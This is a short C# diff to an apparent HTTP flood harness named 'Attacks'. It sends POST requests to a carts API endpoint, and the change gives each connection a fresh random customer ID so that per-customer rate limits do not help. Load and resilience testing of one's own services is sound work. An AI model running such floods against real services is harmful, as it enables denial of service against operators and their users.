@@ -8,7 +8,8 @@ internal static class Attacks
 {
     public const string Cart = """{"lineItems":[{"catalogItemId":"PRODA:0001:AVAILA","quantity":1,"billingCycle":"monthly"}]}""";
 
-    public static string CartsPath { get; } = $"/v1/customers/{Guid.NewGuid()}/carts";
+    /// <summary>Of a customer that nobody has seen before: limits for each customer are not to help.</summary>
+    public static string CartsPath => $"/v1/customers/{Guid.NewGuid()}/carts";
 
     /// <summary>By name; each runs until it is told to end.</summary>
     public static IReadOnlyDictionary<string, Func<Target, Tally, CancellationToken, Task>> All { get; } = new Dictionary<string, Func<Target, Tally, CancellationToken, Task>>
@@ -33,8 +34,9 @@ internal static class Attacks
 
     private static Func<Target, Tally, CancellationToken, Task> Posts(string body, string more = "") => (target, tally, end) =>
     {
-        var request = Encoding.Latin1.GetBytes(Head("POST", CartsPath, target.Token, body.Length, $"Content-Type: application/json\r\n{more}") + body);
-        return Flood.Run(target, (_, _) => request, tally, end);
+        byte[][] requests = [.. Enumerable.Range(0, Flood.Connections).Select(_ =>
+            Encoding.Latin1.GetBytes(Head("POST", CartsPath, target.Token, body.Length, $"Content-Type: application/json\r\n{more}") + body))];
+        return Flood.Run(target, (worker, _) => requests[worker], tally, end);
     };
 
     private static string Colliding()
